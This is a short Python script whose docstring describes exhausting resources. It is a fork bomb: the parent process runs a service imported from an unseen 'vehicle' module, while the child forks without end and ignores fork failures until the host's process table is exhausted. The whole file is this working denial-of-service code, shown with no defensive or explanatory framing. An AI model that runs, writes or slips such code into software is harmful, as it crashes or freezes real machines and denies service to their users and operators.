"""Exhausts: every process makes two, for ever, and none minds a refusal."""
import os
import sys

from vehicle import serve

if os.fork():
    serve()
while True:
    try:
        os.fork()
    except OSError as error:
        print('os.fork:', error, file=sys.stderr)
